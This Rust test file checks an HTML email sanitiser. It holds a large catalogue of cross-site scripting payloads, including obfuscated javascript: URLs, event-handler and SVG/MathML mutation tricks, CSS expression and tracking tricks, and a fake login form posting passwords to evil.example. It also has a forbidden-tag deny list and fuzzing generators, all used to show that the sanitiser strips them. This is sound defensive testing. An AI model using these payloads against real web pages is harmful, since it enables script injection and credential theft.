//! The hostile corpus, the tag-soup property and a realistic newsletter snapshot.

#![allow(clippy::unwrap_used, clippy::expect_used)]

use super::*;
use proptest::prelude::*;

fn clean(html: &str) -> String {
    safe_html(html, false).html
}

fn clean_shown(html: &str) -> String {
    safe_html(html, true).html
}

/// The tags of the output (`<…>`); text and attribute values never hold a raw `<`/`>`.
fn tags(out: &str) -> Vec<String> {
    let mut v = Vec::new();
    let mut rest = out;
    while let Some(i) = rest.find('<') {
        let after = &rest[i..];
        let end = after.find('>').map_or(after.len(), |j| j + 1);
        v.push(after[..end].to_string());
        rest = &after[end..];
    }
    v
}

/// A tag with its quoted attribute values blanked (the serialiser always uses `"`).
fn skeleton(tag: &str) -> String {
    let mut out = String::new();
    let mut in_value = false;
    for c in tag.chars() {
        if c == '"' {
            in_value = !in_value;
            out.push('"');
        } else if !in_value {
            out.push(c.to_ascii_lowercase());
        }
    }
    out
}

/// The values of one attribute in a serialised tag (always `name="value"`).
fn attr_values(tag: &str, name: &str) -> Vec<String> {
    let needle = format!(" {name}=\"");
    let mut v = Vec::new();
    let mut rest = tag;
    while let Some(i) = rest.find(&needle) {
        let after = &rest[i + needle.len()..];
        let end = after.find('"').unwrap_or(after.len());
        v.push(after[..end].to_string());
        rest = &after[end..];
    }
    v
}

const FORBIDDEN_TAGS: &[&str] = &[
    "script", "style", "iframe", "object", "embed", "form", "input", "svg", "math", "base", "meta",
    "link", "frame", "frameset", "applet", "template", "textarea", "button", "select", "noscript",
    "animate", "set", "maction", "body", "html", "head", "title",
];

/// Everything a safe output must satisfy, checked on its markup.
fn assert_safe(out: &str) {
    let lower = out.to_ascii_lowercase();
    assert!(!lower.contains("<script"), "script tag in {out}");
    assert!(!lower.contains("<!--"), "comment in {out}");
    for tag in tags(out) {
        let t = tag.to_ascii_lowercase();
        assert!(!t.contains("javascript:"), "javascript: in {tag}");
        assert!(!t.contains("vbscript:"), "vbscript: in {tag}");
        for style in attr_values(&t, "style") {
            for bad in [
                "expression",
                "url(",
                "@import",
                "\\",
                "/*",
                "position",
                "var(",
            ] {
                assert!(!style.contains(bad), "{bad} in {tag}");
            }
        }
        assert!(!t.contains("srcdoc"), "srcdoc in {tag}");
        let sk = skeleton(&tag);
        let name: String = sk
            .trim_start_matches(['<', '/'])
            .chars()
            .take_while(|c| c.is_ascii_alphanumeric())
            .collect();
        assert!(
            TAGS.contains(&name.as_str()),
            "tag {name:?} not allowed: {tag}"
        );
        assert!(!FORBIDDEN_TAGS.contains(&name.as_str()), "{tag}");
        // No event handler: no attribute name starting with "on".
        for word in sk.split([' ', '\t', '\n', '/']) {
            assert!(
                !(word.starts_with("on") && word.contains('=')),
                "event handler in {tag}"
            );
        }
        // Every URL is http/https/mailto.
        for attr in ["href", "src"] {
            for v in attr_values(&t, attr) {
                assert!(
                    v.starts_with("http://")
                        || v.starts_with("https://")
                        || v.starts_with("mailto:"),
                    "url in {tag}"
                );
            }
        }
        for attr in ["width", "height", "border", "colspan", "rowspan"] {
            for v in attr_values(&t, attr) {
                assert!(
                    v.chars().all(|c| c.is_ascii_digit() || ".%* ".contains(c)),
                    "{tag}"
                );
            }
        }
    }
}

fn hostile(html: &str) -> String {
    let out = clean(html);
    assert_safe(&out);
    let shown = clean_shown(html);
    assert_safe(&shown);
    out
}

// ---- scripts -------------------------------------------------------------------

#[test]
fn script_tags_in_every_disguise() {
    for html in [
        "<script>alert(1)</script>",
        "<SCRIPT>alert(1)</SCRIPT>",
        "<ScRiPt>alert(1)</sCrIpT>",
        "<script src=https://evil.example/x.js></script>",
        "<script\n>alert(1)</script\n>",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "<<script>script>alert(1)<</script>/script>",
        "<!-- <script>alert(1)</script> -->",
        "<!--><script>alert(1)</script>-->",
        "<!--[if gte mso 9]><script>alert(1)</script><![endif]-->",
        "<p>a<script/x>alert(1)</script>b</p>",
        "<script>alert(1)",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
        "<textarea><script>alert(1)</script></textarea>",
        "<xmp><script>alert(1)</script></xmp>",
        "<template><script>alert(1)</script></template>",
        "<div><![CDATA[<script>alert(1)</script>]]></div>",
    ] {
        let out = hostile(html);
        assert!(!out.contains("alert(1)</"), "{html} → {out}");
    }
    let r = safe_html("a<script>alert(1)</script>b<SCRIPT>x</SCRIPT>", false);
    assert_eq!(r.html, "ab");
    assert_eq!(r.removed, vec!["2 × <script>"]);
}

#[test]
fn split_script_leaves_only_text() {
    let out = hostile("<scr<script>ipt>alert(1)</script>");
    assert!(!out.contains('<') || !out.contains("<scr"), "{out}");
}

// ---- event handlers ------------------------------------------------------------

#[test]
fn event_handlers_are_dropped() {
    for html in [
        "<img src=x onerror=alert(1)>",
        "<img src=\"https://ok.example/a.png\" onerror=\"alert(1)\">",
        "<body onload=alert(1)>hi</body>",
        "<p onmouseover=\"alert(1)\">hover</p>",
        "<a href=https://ok.example ONCLICK=alert(1)>x</a>",
        "<div/onmouseover='alert(1)'>x</div>",
        "<p\nonclick\n=\nalert(1)>x</p>",
        "<svg onload=alert(1)><circle onclick=alert(1) r=5 /></svg>",
        "<svg><g onload=\"alert(1)\"></g></svg>",
        "<details open ontoggle=alert(1)>x</details>",
        "<video><source onerror=alert(1)></video>",
        "<marquee onstart=alert(1)>x</marquee>",
    ] {
        let out = hostile(html);
        assert!(
            !out.to_ascii_lowercase().contains("alert"),
            "{html} → {out}"
        );
    }
    let r = safe_html("<img src=x onerror=alert(1)>", false);
    assert_eq!(r.html, "<img>");
    assert!(
        r.removed.contains(&"1 × onerror attribute".to_string()),
        "{r:?}"
    );
}

// ---- URLs ----------------------------------------------------------------------

#[test]
fn script_urls_are_dropped_however_spelled() {
    for href in [
        "javascript:alert(1)",
        "JaVaScRiPt:alert(1)",
        "&#106;avascript:alert(1)",
        "&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)",
        "&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)",
        "java\tscript:alert(1)",
        "java&#9;script:alert(1)",
        "java&#10;script:alert(1)",
        "java&#13;script:alert(1)",
        " \x01\x02javascript:alert(1)",
        "&#14;javascript:alert(1)",
        "javascript&colon;alert(1)",
        "vbscript:msgbox(1)",
        "VBScript:msgbox(1)",
        "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
        "DATA:text/html,<script>alert(1)</script>",
        "livescript:alert(1)",
        "jav\u{0}ascript:alert(1)",
        "//evil.example/x",
        "/api/tickets/1/close",
        "file:///etc/passwd",
    ] {
        for html in [
            format!("<a href=\"{href}\">x</a>"),
            format!("<a href='{href}'>x</a>"),
            format!("<img src=\"{href}\">"),
        ] {
            let out = hostile(&html);
            assert!(!out.contains("href="), "{html} → {out}");
            assert!(!out.contains("src="), "{html} → {out}");
        }
    }
    let r = safe_html("<a href=\"JaVaScRiPt:alert(1)\">x</a>", false);
    assert!(
        r.removed.contains(&"1 × javascript: link".to_string()),
        "{r:?}"
    );
}

#[test]
fn good_links_keep_rel_and_target() {
    let out =
        hostile("<a href=\"https://ok.example/path?a=1&amp;b=2\" target=_self rel=opener>ok</a>");
    assert_eq!(
        out,
        "<a href=\"https://ok.example/path?a=1&amp;b=2\" target=\"_blank\" rel=\"noopener noreferrer nofollow\">ok</a>"
    );
    let out = hostile(
        "<a href=\"mailto:help@example.com\">mail</a><a href=\"http://plain.example\">p</a>",
    );
    assert!(out.contains("href=\"mailto:help@example.com\""), "{out}");
    assert!(out.contains("href=\"http://plain.example\""), "{out}");
    assert_eq!(
        out.matches("rel=\"noopener noreferrer nofollow\"").count(),
        2
    );
}

#[test]
fn angle_brackets_in_urls_and_titles_are_neutralised() {
    let out = hostile("<a href=\"https://ok.example/?q=<script>\" title=\"<b>x</b>\">y</a>");
    assert!(out.contains("q=%3Cscript%3E"), "{out}");
    assert!(
        out.contains("title=\"\u{2039}b\u{203A}x\u{2039}/b\u{203A}\""),
        "{out}"
    );
}

// ---- foreign content -----------------------------------------------------------

#[test]
fn svg_and_mathml_are_removed_whole() {
    for html in [
        "<svg><script>alert(1)</script></svg>",
        "<svg><script href=data:,alert(1) /></svg>",
        "<svg><a xlink:href=\"javascript:alert(1)\"><text x=20 y=20>XSS</text></a></svg>",
        "<svg><animate href=#x attributeName=href values=javascript:alert(1) /></svg>",
        "<svg><a><animate attributeName=href to=javascript:alert(1) /><text>x</text></a></svg>",
        "<svg><set attributeName=onmouseover to=alert(1) /></svg>",
        "<svg><foreignObject><iframe srcdoc=\"<script>alert(1)</script>\"></iframe></foreignObject></svg>",
        "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>CLICK</maction></math>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
        "<math><mi xlink:href=\"data:x,<script>alert(1)</script>\">x</mi></math>",
        "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    ] {
        let out = hostile(html);
        assert!(!out.contains("alert"), "{html} → {out}");
    }
    let r = safe_html("<p>a<svg><script>alert(1)</script></svg>b</p>", false);
    assert_eq!(r.html, "<p>ab</p>");
    assert_eq!(r.removed, vec!["1 × <svg>"]);
}

// ---- embedding, navigation, forms ---------------------------------------------

#[test]
fn frames_objects_forms_and_head_elements_go() {
    for (html, gone) in [
        (
            "<iframe srcdoc=\"&lt;script&gt;alert(1)&lt;/script&gt;\"></iframe>",
            "iframe",
        ),
        ("<iframe src=\"https://evil.example\"></iframe>", "iframe"),
        (
            "<frameset><frame src=https://evil.example></frameset>",
            "frame",
        ),
        (
            "<object data=\"https://evil.example/x.swf\"><param name=x value=y></object>",
            "object",
        ),
        ("<embed src=\"https://evil.example/x.swf\">", "embed"),
        ("<applet code=X.class></applet>", "applet"),
        (
            "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example\">",
            "meta",
        ),
        (
            "<base href=\"https://evil.example/\"><a href=\"x\">x</a>",
            "base",
        ),
        (
            "<link rel=stylesheet href=https://evil.example/x.css>",
            "link",
        ),
        ("<link rel=import href=https://evil.example/x.html>", "link"),
        (
            "<form action=\"https://evil.example/steal\" method=post><input name=password type=password><button formaction=javascript:alert(1)>Log in</button></form>",
            "form",
        ),
        ("<isindex action=javascript:alert(1) type=image>", "isindex"),
        ("<input type=image src=https://evil.example/x.png>", "input"),
    ] {
        let out = hostile(html);
        assert!(!out.contains(&format!("<{gone}")), "{html} → {out}");
        assert!(!out.contains("evil.example"), "{html} → {out}");
    }
    let out = hostile(
        "<form action=https://evil.example><p>Please log in</p><button>Log in</button></form>",
    );
    assert_eq!(out, "<p>Please log in</p>Log in");
}

// ---- CSS -----------------------------------------------------------------------

#[test]
fn dangerous_css_never_survives() {
    for html in [
        "<p style=\"width: expression(alert(1))\">x</p>",
        "<p style=\"color: expression(alert(1))\">x</p>",
        "<p style=\"color: red; background-color: exp/**/ression(alert(1))\">x</p>",
        "<p style=\"background: url(javascript:alert(1))\">x</p>",
        "<p style=\"background-color: url(https://track.example/p.gif)\">x</p>",
        "<p style=\"background-image: url('https://track.example/p.gif')\">x</p>",
        "<p style=\"color: \\75 rl(https://track.example)\">x</p>",
        "<p style=\"color: red; behavior: url(x.htc)\">x</p>",
        "<p style=\"-moz-binding: url(https://evil.example/x.xml#xss)\">x</p>",
        "<p style=\"position: fixed; top: 0; left: 0; width: 100%; height: 100%\">x</p>",
        "<p style=\"color: var(--x)\">x</p>",
        "<p style=\"@import 'https://evil.example/x.css'\">x</p>",
        "<style>@import url(https://evil.example/x.css); body{background:url(javascript:alert(1))}</style>",
        "<STYLE>p{color:red}</STYLE><p>x</p>",
        "<div style=\"color:red;}</style><script>alert(1)</script>\">x</div>",
    ] {
        let out = hostile(html);
        assert!(
            !out.contains("track.example") && !out.contains("evil.example"),
            "{out}"
        );
        assert!(
            !out.contains("position") && !out.contains("<style"),
            "{out}"
        );
    }
    // The tiny safe subset stays, normalised.
    let out = hostile(
        "<p style=\"COLOR: #336699; font-weight:bold; text-align: center; margin: 0; background-color: rgb(255, 250, 240)\">x</p>",
    );
    assert_eq!(
        out,
        "<p style=\"color: #336699; font-weight: bold; text-align: center; background-color: rgb(255, 250, 240)\">x</p>"
    );
}

#[test]
fn safe_css_value_rules() {
    for ok in [
        "red",
        "#fff",
        "rgb(1, 2, 3)",
        "hsla(10, 20%, 30%, .5)",
        "bold",
        "line-through",
    ] {
        assert!(safe_css_value(ok), "{ok}");
    }
    for bad in [
        "url(x)",
        "expression(alert(1))",
        "rgb(url(x))",
        "red\\9",
        "'red'",
        "red;",
        "red/**/",
        "image-set(x)",
        "rgb(1,2,3",
        "",
    ] {
        assert!(!safe_css_value(bad), "{bad}");
    }
}

// ---- images --------------------------------------------------------------------

#[test]
fn remote_images_are_blocked_and_counted() {
    let html = "<p><img src=\"https://cdn.example/logo.png\" alt=\"Logo\" width=200 height=50>\
                <img src=\"http://cdn.example/b.jpg\"></p>";
    let r = safe_html(html, false);
    assert_eq!(r.blocked_images, 2);
    assert_eq!(
        r.html,
        "<p><img alt=\"Logo\" width=\"200\" height=\"50\"><img></p>"
    );
    assert!(r.removed.is_empty(), "{r:?}");
    let r = safe_html(html, true);
    assert_eq!(r.blocked_images, 0);
    assert!(
        r.html.contains("src=\"https://cdn.example/logo.png\""),
        "{r:?}"
    );
    assert!(r.html.contains("src=\"http://cdn.example/b.jpg\""), "{r:?}");
}

#[test]
fn tracking_pixels_never_load() {
    for pixel in [
        "<img src=\"https://t.example/o.gif\" width=1 height=1>",
        "<img src=\"https://t.example/o.gif\" width=\"0\" height=\"0\">",
        "<img src=\"https://t.example/o.gif\" height=\"2px\">",
        "<img src=\"https://t.example/o.gif\" style=\"display:none\">",
        "<img src=\"https://t.example/o.gif\" style=\"DISPLAY: NONE !important\">",
        "<img src=\"https://t.example/o.gif\" style=\"width:1px;height:1px\">",
        "<img src=\"https://t.example/o.gif\" style=\"visibility:hidden\">",
        "<img src=\"https://t.example/o.gif\" style=\"opacity:0\">",
        "<img src=\"https://t.example/o.gif\" style=\"max-height: 0px\">",
    ] {
        let r = safe_html(pixel, true);
        assert!(!r.html.contains("t.example"), "{pixel} → {r:?}");
        assert!(
            r.removed.contains(&"1 × tracking pixel".to_string()),
            "{pixel}: {r:?}"
        );
        let r = safe_html(pixel, false);
        assert_eq!(
            r.blocked_images, 0,
            "a pixel is not offered as an image: {pixel}"
        );
    }
}

#[test]
fn data_relative_and_cid_images() {
    let r = safe_html(
        "<img src=\"data:image/png;base64,iVBORw0KGgo=\"><img src=\"/api/x\"><img src=\"cid:logo@x\"><img srcset=\"https://t.example/a.png 2x\">",
        true,
    );
    assert_eq!(r.html, "<img><img><img><img>");
    assert_eq!(
        r.removed,
        vec![
            "1 × data: image",
            "1 × image with a relative or broken address",
            "1 × inline image",
            "1 × srcset attribute",
        ]
    );
    let map = |cid: &str| (cid == "logo@x").then(|| "/tickets/7/attachments/2".to_string());
    let r = safe_html_with(
        "<img src=\"cid:logo%40x\" alt=logo><img src=\"cid:other@x\"><a href=\"/tickets/7/attachments/2\">relative link</a><img src=\"/tickets/7/attachments/2\">",
        false,
        &map,
    );
    assert_eq!(
        r.html,
        "<img src=\"/tickets/7/attachments/2\" alt=\"logo\"><img><a href=\"/tickets/7/attachments/2\" target=\"_blank\" rel=\"noopener noreferrer nofollow\">relative link</a><img>"
    );
    assert_eq!(r.blocked_images, 0);
}

#[test]
fn image_src_not_seen_by_the_first_pass_never_survives() {
    // The filter only lets through sources the first pass approved.
    let approved = Arc::new(HashSet::from(["https://ok.example/a.png".to_string()]));
    let out = builder(approved)
        .clean("<img src=\"https://ok.example/a.png\"><img src=\"https://t.example/b.png\">")
        .to_string();
    assert_eq!(out, "<img src=\"https://ok.example/a.png\"><img>");
}

// ---- structure and size --------------------------------------------------------

#[test]
fn nested_and_unclosed_tags() {
    let out = hostile(
        "<div><p><b>bold <i>both</b> italic?</p><table><tr><td>cell<td>cell2</table><ul><li>one<li>two",
    );
    assert!(out.contains("<td>cell</td><td>cell2</td>"), "{out}");
    assert!(out.ends_with("<li><i>two</i></li></ul></div>"), "{out}");
    let deep = "<div>".repeat(5_000) + "deep" + &"</div>".repeat(5_000);
    let out = hostile(&deep);
    assert!(out.contains("deep"));
    let unclosed = "<a href=\"https://ok.example\">".repeat(2_000) + "x";
    assert_safe(&clean(&unclosed));
    hostile("<p title=\"unterminated");
    hostile("<img src=\"https://a.example/x.png");
    hostile("<a href=\"java");
}

#[test]
fn classes_ids_and_names_are_dropped() {
    let out =
        hostile("<p class=\"btn-danger\" id=\"logout\" name=\"x\" data-x=1 lang=de dir=ltr>x</p>");
    assert_eq!(out, "<p lang=\"de\" dir=\"ltr\">x</p>");
}

#[test]
fn a_one_megabyte_mail_is_cleaned_whole() {
    // How the time grows with the size (linear, not quadratic) is measured by
    // `cargo bench -p kindly-web --bench sanitize`, not asserted here: timing
    // checks flake on a shared machine.
    let big = LINEAR_BLOCK.repeat(1_000_000 / LINEAR_BLOCK.len());
    assert!(big.len() >= 990_000);
    let r = safe_html(&big, false);
    assert_safe(&r.html);
    assert_eq!(r.blocked_images, big.len() / LINEAR_BLOCK.len());
    assert_eq!(
        r.html.matches("<table").count(),
        big.len() / LINEAR_BLOCK.len()
    );
}

/// One block of a typical newsletter-ish mail, with hostile bits in it.
const LINEAR_BLOCK: &str = "<table width=\"600\"><tr><td style=\"color: #333\"><p>Hello <b>world</b> \
     <a href=\"https://ok.example/?id=1\">link</a> <img src=\"https://cdn.example/i.png\" width=100>\
     <script>alert(1)</script><span onclick=x>t</span></p></td></tr></table>\n";

#[test]
fn plain_text_and_empty_input() {
    assert_eq!(safe_html("", false), SafeHtml::default());
    assert_eq!(clean("just text & <3"), "just text &amp; &lt;3");
}

// ---- property: tag soup --------------------------------------------------------

fn soup_piece() -> impl Strategy<Value = String> {
    let tag = prop::sample::select(vec![
        "script",
        "SCRIPT",
        "scr<script>ipt",
        "img",
        "a",
        "p",
        "div",
        "svg",
        "math",
        "iframe",
        "style",
        "object",
        "embed",
        "form",
        "input",
        "base",
        "meta",
        "link",
        "table",
        "td",
        "animate",
        "maction",
        "noscript",
        "template",
        "textarea",
        "xmp",
        "b",
        "span",
        "font",
        "foreignObject",
        "mtext",
        "mglyph",
        "select",
        "option",
        "title",
        "plaintext",
    ]);
    let attr = prop::sample::select(vec![
        "onerror",
        "onload",
        "OnMouseOver",
        "onclick",
        "href",
        "src",
        "style",
        "xlink:href",
        "srcdoc",
        "action",
        "formaction",
        "title",
        "alt",
        "width",
        "height",
        "data",
        "/onload",
        "attributeName",
        "values",
        "to",
    ]);
    let value = prop::sample::select(vec![
        "javascript:alert(1)",
        "JaVaScRiPt:alert(1)",
        "&#106;avascript:alert(1)",
        "java&#9;script:alert(1)",
        " \u{1}javascript:alert(1)",
        "vbscript:x",
        "data:text/html,<script>alert(1)</script>",
        "https://ok.example/a.png",
        "expression(alert(1))",
        "background:url(javascript:alert(1))",
        "@import 'x'",
        "alert(1)",
        "1",
        "\"><script>alert(1)</script>",
        "'><img src=x onerror=alert(1)>",
        "</style><script>alert(1)</script>",
    ]);
    let quote = prop::sample::select(vec!["\"", "'", ""]);
    let open = (
        tag.clone(),
        prop::collection::vec((attr, value, quote), 0..3),
        any::<bool>(),
    )
        .prop_map(|(t, attrs, selfclose)| {
            let mut s = format!("<{t}");
            for (a, v, q) in attrs {
                s.push_str(&format!(" {a}={q}{v}{q}"));
            }
            s.push_str(if selfclose { "/>" } else { ">" });
            s
        });
    let close = tag.prop_map(|t| format!("</{t}>"));
    let junk = prop::sample::select(vec![
        "<",
        ">",
        "\"",
        "'",
        "=",
        "/",
        "<!--",
        "-->",
        "<![CDATA[",
        "]]>",
        "&",
        "&lt;",
        " ",
        "text",
        "on",
        "load=",
        "<!",
        "<?",
        "`",
    ])
    .prop_map(str::to_string);
    prop_oneof![4 => open, 3 => close, 2 => junk]
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(400))]
    #[test]
    fn tag_soup_never_yields_script(pieces in prop::collection::vec(soup_piece(), 0..30)) {
        let html: String = pieces.concat();
        assert_safe(&safe_html(&html, false).html);
        assert_safe(&safe_html(&html, true).html);
    }

    #[test]
    fn arbitrary_text_never_panics_and_stays_safe(s in "\\PC{0,200}") {
        assert_safe(&safe_html(&s, true).html);
    }
}

// ---- snapshot: a realistic newsletter -------------------------------------------

const NEWSLETTER: &str = r##"<!DOCTYPE html>
<html><head>
<meta http-equiv="Content-Type" content="text/html; charset=utf-8">
<title>Spring news</title>
<style type="text/css">body{margin:0} .btn{background:#0a7}</style>
<!--[if mso]><xml><o:OfficeDocumentSettings></o:OfficeDocumentSettings></xml><![endif]-->
</head>
<body style="margin:0;padding:0" bgcolor="#f4f4f4">
<div style="display:none;max-height:0">Preview text the reader never sees</div>
<table width="100%" cellpadding="0" cellspacing="0" border="0" bgcolor="#f4f4f4" class="wrapper">
<tr><td align="center">
  <table width="600" cellpadding="20" style="background-color:#ffffff; border-radius: 4px">
    <tr><td align="center">
      <a href="https://shop.example/?utm_source=news"><img src="https://cdn.example/logo.png" alt="Shop Example" width="180" height="40" style="display:block;border:0"></a>
    </td></tr>
    <tr><td style="color:#333333; font-family: Arial, sans-serif; font-size: 16px">
      <h1 style="color:#0a7755; text-align:center">Spring sale: 20% off</h1>
      <p>Hello Anna,</p>
      <p>Our <b>spring sale</b> starts today. <a href="https://shop.example/sale" class="btn" onclick="track()" style="background:url(https://t.example/c.gif)">Shop now</a></p>
      <ul><li>Free shipping over 50&nbsp;&euro;</li><li>Returns within 30 days</li></ul>
      <p><img src="cid:banner@shop" alt="Banner" width="560"></p>
      <form action="https://shop.example/subscribe"><input type="email" name="e"><button>Subscribe</button></form>
    </td></tr>
    <tr><td style="font-size:12px;color:#999999" align="center">
      <a href="https://shop.example/unsubscribe?u=123">Unsubscribe</a> &middot;
      <a href="javascript:void(0)">View in browser</a>
      <img src="https://t.example/open.gif?u=123" width="1" height="1" alt="">
      <script>document.write('<img src=https://t.example/js.gif>')</script>
    </td></tr>
  </table>
</td></tr></table>
</body></html>"##;

#[test]
fn newsletter_snapshot() {
    let blocked = safe_html(NEWSLETTER, false);
    assert_safe(&blocked.html);
    assert_eq!(blocked.blocked_images, 1);
    let shown = safe_html(NEWSLETTER, true);
    assert_safe(&shown.html);
    assert!(shown.html.contains("src=\"https://cdn.example/logo.png\""));
    assert!(!shown.html.contains("t.example"));
    insta::assert_snapshot!("newsletter_blocked", blocked.html);
    insta::assert_debug_snapshot!(
        "newsletter_removed",
        (blocked.blocked_images, blocked.removed)
    );
}
